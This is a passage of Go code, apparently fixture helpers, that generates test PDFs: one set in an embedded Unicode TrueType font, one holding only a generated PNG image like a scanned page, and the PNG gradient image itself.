	var buf bytes.Buffer
	must(f.Output(&buf))
	return buf.Bytes()
}

// pdfUnicodeFont sets the article in an embedded TrueType font (a Type0
// composite font with Identity-H encoding and a ToUnicode map), as browsers
// and most modern producers write PDFs.
func pdfUnicodeFont() []byte {
	f := fpdf.New("P", "mm", "A4", "/usr/share/fonts/truetype/dejavu")
	f.AddUTF8Font("dejavu", "", "DejaVuSans.ttf")
	f.SetAutoPageBreak(false, 0)
	f.AddPage()
	f.SetFont("dejavu", "", 18)
	f.Text(20, 25, title)
	f.SetFont("dejavu", "", 11)
	y := 40.0
	for _, p := range body {
		for _, l := range split(f, func(s string) string { return s }, p, 170) {
			f.Text(20, y, l)
			y += 5.5
		}
		y += 4
	}
	var buf bytes.Buffer
	must(f.Output(&buf))
	return buf.Bytes()
}

func pngBytes() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 64, 32))
	for x := 0; x < 64; x++ {
		for y := 0; y < 32; y++ {
			img.Set(x, y, color.RGBA{uint8(x * 4), uint8(y * 8), 128, 255})
		}
	}
	var buf bytes.Buffer
	must(png.Encode(&buf, img))
	return buf.Bytes()
}

// pdfImageOnly is a scanned page: one image, no text layer.
func pdfImageOnly() []byte {
	f := fpdf.New("P", "mm", "A5", "")
	f.AddPage()
	f.RegisterImageOptionsReader("scan", fpdf.ImageOptions{ImageType: "PNG"}, bytes.NewReader(pngBytes()))
	f.ImageOptions("scan", 10, 10, 120, 60, false, fpdf.ImageOptions{ImageType: "PNG"}, 0, "")
	var buf bytes.Buffer
	must(f.Output(&buf))
	return buf.Bytes()
}
